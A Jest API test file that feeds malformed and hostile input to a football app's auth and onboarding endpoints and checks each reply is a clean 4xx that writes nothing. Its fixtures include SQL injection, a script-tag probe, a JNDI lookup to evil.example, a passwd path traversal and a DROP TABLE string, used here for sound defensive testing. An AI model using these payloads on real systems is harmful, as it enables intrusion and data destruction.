import type { Test } from 'supertest';
import type { Country } from '@scoreline/contracts/api/onboarding';
import { createVerifiedUser } from '../support/factories';
import { startTestSystem, TestSystem } from '../support/test-system';
import { bearer, errorShapeProblem, writeSnapshot } from './api-helpers';

jest.setTimeout(60_000);

/**
 * Every auth and onboarding call, fed bad input: each answer is a 4xx (never a 500) in the one
 * error shape, leaks nothing, and writes nothing (users, email_codes, outbox_events,
 * league_members and leagues compared before and after).
 */

type Method = 'get' | 'post' | 'put';
/** How a field is validated: which bad values to try. */
type Kind = 'text' | 'email' | 'username' | 'code' | 'purpose' | 'id';

interface Endpoint {
  method: Method;
  path: string;
  auth: boolean;
  /** A plausible body; each case spoils one thing. Lazy: ids are known only after start-up. */
  body?: () => Record<string, unknown>;
  fields?: Record<string, Kind>;
}

interface Case {
  name: string;
  endpoint: Endpoint;
  /** The request, built on the endpoint's method and path. */
  send: (req: Test) => Test;
  status?: number;
  /** The field errors must name this field. */
  field?: string;
  message?: string;
}

const INJECTIONS = ["' OR 1=1 --", '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', '../../etc/passwd'];
const TEN_KB = 'a'.repeat(10 * 1024);
const MALFORMED = 'The request body is not valid JSON.';

let sys: TestSystem;
let token: string;
let england: number;
let arsenal: number;

const EMAIL = 'nobody-here@example.com';
const AUTH_ENDPOINTS: Endpoint[] = [
  { method: 'post', path: '/api/auth/login/', auth: false, body: () => ({ email: EMAIL, password: 'wrong-password-1' }), fields: { email: 'text', password: 'text' } },
  {
    method: 'post',
    path: '/api/auth/register/',
    auth: false,
    body: () => ({ username: 'table_user', email: 'table_user@example.com', first_name: 'Alex', last_name: 'Morgan', password: 'correct-horse-1', password_confirm: 'correct-horse-1' }),
    fields: { username: 'username', email: 'email', first_name: 'text', last_name: 'text', password: 'text', password_confirm: 'text' },
  },
  {
    method: 'post',
    path: '/api/auth/verify-otp/',
    auth: false,
    body: () => ({ email: EMAIL, otp_code: '123456', purpose: 'email_verification' }),
    fields: { email: 'email', otp_code: 'code', purpose: 'purpose' },
  },
  { method: 'post', path: '/api/auth/resend-otp/', auth: false, body: () => ({ email: EMAIL, purpose: 'email_verification' }), fields: { email: 'email', purpose: 'purpose' } },
  { method: 'post', path: '/api/auth/forgot-password/', auth: false, body: () => ({ email: EMAIL }), fields: { email: 'email' } },
  {
    method: 'post',
    path: '/api/auth/reset-password/',
    auth: false,
    body: () => ({ email: EMAIL, otp_code: '123456', new_password: 'brand-new-pass-1', new_password_confirm: 'brand-new-pass-1' }),
    fields: { email: 'email', otp_code: 'code', new_password: 'text', new_password_confirm: 'text' },
  },
  {
    method: 'post',
    path: '/api/auth/change-password/',
    auth: true,
    // The current password is wrong, so no case can change anything even if it slipped through.
    body: () => ({ current_password: 'not-my-password', new_password: 'brand-new-pass-1', new_password_confirm: 'brand-new-pass-1' }),
    fields: { current_password: 'text', new_password: 'text', new_password_confirm: 'text' },
  },
  { method: 'get', path: '/api/auth/profile/', auth: true },
  { method: 'put', path: '/api/auth/profile/', auth: true, body: () => ({ first_name: 'Alex', last_name: 'Morgan' }), fields: { first_name: 'text', last_name: 'text' } },
];
const ONBOARDING_ENDPOINTS: Endpoint[] = [
  { method: 'get', path: '/api/onboarding/status/', auth: true },
  { method: 'get', path: '/api/onboarding/countries/', auth: true },
  { method: 'get', path: '/api/onboarding/clubs/', auth: true },
  { method: 'get', path: '/api/onboarding/preferences/', auth: true },
  { method: 'post', path: '/api/onboarding/complete/', auth: true, body: () => ({ country_id: england, club_id: arsenal }), fields: { country_id: 'id', club_id: 'id' } },
  { method: 'post', path: '/api/onboarding/skip/', auth: true },
];

function badValues(kind: Kind): [string, unknown][] {
  const common: [string, unknown][] = [
    ['null', null],
    ['true', true],
    ['an object', { x: 1 }],
    ['an empty object', {}],
    ['a 10 kB string', TEN_KB],
  ];
  if (kind === 'id') {
    return [
      ...common,
      ['a numeric string', '1'],
      ['a word', 'abc'],
      ['an array', [1]],
      ['a fraction', 1.5],
      ['zero', 0],
      ['negative', -1],
      ['above int4', 2147483648],
      ['huge', 1e300],
      ...INJECTIONS.map((s): [string, unknown] => [`injection ${JSON.stringify(s)}`, s]),
    ];
  }
  const strings: [string, unknown][] = [
    ...common,
    ['a number', 123456],
    ['an array', ['x']],
    ['an empty string', ''],
    ['a NUL character', 'ab\u0000cd'],
  ];
  const strict = INJECTIONS.map((s): [string, unknown] => [`injection ${JSON.stringify(s)}`, s]);
  switch (kind) {
    case 'text':
      return strings;
    case 'email':
      return [...strings, ...strict, ['not an email', 'not-an-email'], ['an email over 254 characters', `${'a'.repeat(250)}@example.com`]];
    case 'username':
      return [...strings, ...strict, ['two words', 'two words'], ['too short', 'ab'], ['too long', 'a'.repeat(31)]];
    case 'code':
      return [...strings, ...strict, ['five digits', '12345'], ['seven digits', '1234567'], ['letters', 'abcdef'], ['spaces', ' 12345']];
    case 'purpose':
      return [...strings, ...strict, ['another purpose', 'admin']];
  }
}

function withBody(json: unknown): (req: Test) => Test {
  return (req) => req.send(json as object);
}
function raw(contentType: string, text: string): (req: Test) => Test {
  return (req) => req.set('Content-Type', contentType).send(text);
}

function casesFor(endpoint: Endpoint): Case[] {
  const cases: Case[] = [];
  const add = (c: Omit<Case, 'endpoint'>) => cases.push({ ...c, endpoint });

  // Malformed JSON is refused by every call, with or without a body of its own.
  add({ name: 'malformed JSON body', send: raw('application/json', 'not json'), status: 400, message: MALFORMED });
  add({ name: 'truncated JSON body', send: raw('application/json', '{"email": "a@b.co",'), status: 400, message: MALFORMED });
  if (!endpoint.body || !endpoint.fields) return cases;

  const base = endpoint.body;
  const fields = Object.keys(endpoint.fields);
  const first = fields[0];
  add({ name: 'JSON null as the body', send: raw('application/json', 'null'), status: 400, message: MALFORMED });
  add({ name: 'a JSON string as the body', send: raw('application/json', '"text"'), status: 400, message: MALFORMED });
  add({ name: 'a JSON number as the body', send: raw('application/json', '42'), status: 400, message: MALFORMED });
  add({ name: 'a JSON array holding a valid body', send: (req) => req.send([base()]), status: 400, message: 'The request body must be a JSON object.' });
  add({ name: 'an empty JSON array', send: withBody([]), status: 400, message: 'The request body must be a JSON object.' });
  add({ name: 'an empty object', send: withBody({}), status: 400, field: first });
  add({ name: 'no body at all', send: (req) => req, status: 400, field: first });
  add({ name: 'a form-encoded body', send: (req) => req.type('form').send(new URLSearchParams(base() as Record<string, string>).toString()), status: 400 });
  add({ name: 'a text/plain body', send: raw('text/plain', JSON.stringify(base())), status: 400 });
  add({ name: 'an unknown extra field', send: (req) => req.send({ ...base(), is_admin: true }), status: 400, field: 'is_admin' });
  add({ name: `${first} nested 64 levels deep`, send: (req) => req.send({ ...base(), [first]: nest(64) }), status: 400, field: first });
  add({
    name: `${first} nested 100000 levels deep`,
    send: (req) => req.set('Content-Type', 'application/json').send(JSON.stringify({ ...base(), [first]: 0 }).replace(/:0([,}])/, `:${'['.repeat(100_000)}${']'.repeat(100_000)}$1`)),
    status: 400,
  });
  add({ name: 'a body over 2 MB', send: (req) => req.send({ ...base(), [first]: 'a'.repeat(2.2 * 1024 * 1024) }), status: 413 });

  for (const [field, kind] of Object.entries(endpoint.fields)) {
    add({
      name: `${field} missing`,
      send: (req) => {
        const body = base();
        delete body[field];
        return req.send(body);
      },
      status: 400,
      field,
    });
    for (const [label, value] of badValues(kind)) {
      add({ name: `${field} is ${label}`, send: (req) => req.send({ ...base(), [field]: value }), status: 400, field });
    }
  }
  return cases;
}

function nest(levels: number): unknown {
  let value: unknown = 'x';
  for (let i = 0; i < levels; i++) value = { a: value };
  return value;
}

const clubsQueryCases: Case[] = (() => {
  const endpoint = ONBOARDING_ENDPOINTS.find((e) => e.path === '/api/onboarding/clubs/')!;
  const query = (q: string) => (req: Test) => req.query(q);
  const list: [string, string, string][] = [
    ['search is a 10 kB string', `search=${TEN_KB}`, 'search'],
    ['search is repeated (an array)', 'search=a&search=b', 'search'],
    ['search holds a NUL character', 'search=a%00b', 'search'],
    ['country_id is a word', 'country_id=abc', 'country_id'],
    ['country_id is a fraction', 'country_id=1.5', 'country_id'],
    ['country_id is zero', 'country_id=0', 'country_id'],
    ['country_id is negative', 'country_id=-1', 'country_id'],
    ['country_id is above int4', 'country_id=2147483648', 'country_id'],
    ['country_id is huge', 'country_id=99999999999999999999999', 'country_id'],
    ['country_id is empty', 'country_id=', 'country_id'],
    ['country_id is repeated (an array)', 'country_id=1&country_id=2', 'country_id'],
    ['country_id is a 10 kB string', `country_id=${TEN_KB}`, 'country_id'],
    ...INJECTIONS.map((s): [string, string, string] => [`country_id is injection ${JSON.stringify(s)}`, `country_id=${encodeURIComponent(s)}`, 'country_id']),
    ['limit is zero', 'limit=0', 'limit'],
    ['limit is above 100', 'limit=101', 'limit'],
    ['limit is negative', 'limit=-5', 'limit'],
    ['limit is a fraction', 'limit=2.5', 'limit'],
    ['limit is a word', 'limit=all', 'limit'],
    ['limit is injection', `limit=${encodeURIComponent("1; DROP TABLE clubs")}`, 'limit'],
    ['an unknown query parameter', 'foo=1', 'foo'],
    ['a bracketed (object) parameter', 'search[$ne]=x', 'search[$ne]'],
  ];
  return list.map(([name, q, field]) => ({ name: `query ${name}`, endpoint, send: query(q), status: 400, field }));
})();

const ALL_CASES: Case[] = [...[...AUTH_ENDPOINTS, ...ONBOARDING_ENDPOINTS].flatMap(casesFor), ...clubsQueryCases];

describe('bad input to every auth and onboarding call', () => {
  beforeAll(async () => {
    sys = await startTestSystem();
    const user = await createVerifiedUser(sys);
    token = user.token;
    const countries: Country[] = (await sys.http.get('/api/onboarding/countries/').set(bearer(token)).expect(200)).body.data;
    england = countries.find((c) => c.name === 'England')!.id;
    arsenal = (await sys.http.get('/api/onboarding/clubs/').query({ search: 'Arsenal FC' }).set(bearer(token)).expect(200)).body.data[0].id;
  });
  afterAll(async () => {
    await sys.close();
  });

  it('covers all 9 auth calls and all 6 onboarding calls', () => {
    const covered = new Set(ALL_CASES.map((c) => `${c.endpoint.method} ${c.endpoint.path}`));
    expect(covered.size).toBe(15);
  });

  it.each(ALL_CASES.map((c) => [`${c.endpoint.method.toUpperCase()} ${c.endpoint.path}: ${c.name}`, c] as const))(
    '%s → 4xx in the error shape, nothing written',
    async (_title, c) => {
      const before = await writeSnapshot(sys);
      let req = sys.http[c.endpoint.method](c.endpoint.path);
      if (c.endpoint.auth) req = req.set(bearer(token));
      const res = await c.send(req);

      const problem = errorShapeProblem(res, c.status);
      expect({ problem, answer: problem ? `${res.status} ${res.text.slice(0, 300)}` : undefined }).toEqual({ problem: null, answer: undefined });
      if (c.message) expect(res.body.message).toBe(c.message);
      if (c.field) expect(Object.keys(res.body.errors ?? {})).toContain(c.field);
      expect(await writeSnapshot(sys)).toEqual(before);
    },
  );

  it("leaves the table user's own account as it was", async () => {
    const me = await sys.http.get('/api/auth/profile/').set(bearer(token)).expect(200);
    expect(me.body.data).toMatchObject({ first_name: 'Alex', last_name: 'Morgan', completed_onboarding: false });
    const [{ users }]: { users: number }[] = await sys.db.query(`SELECT count(*)::int AS users FROM users WHERE username = 'table_user'`);
    expect(users).toBe(0);
  });
});
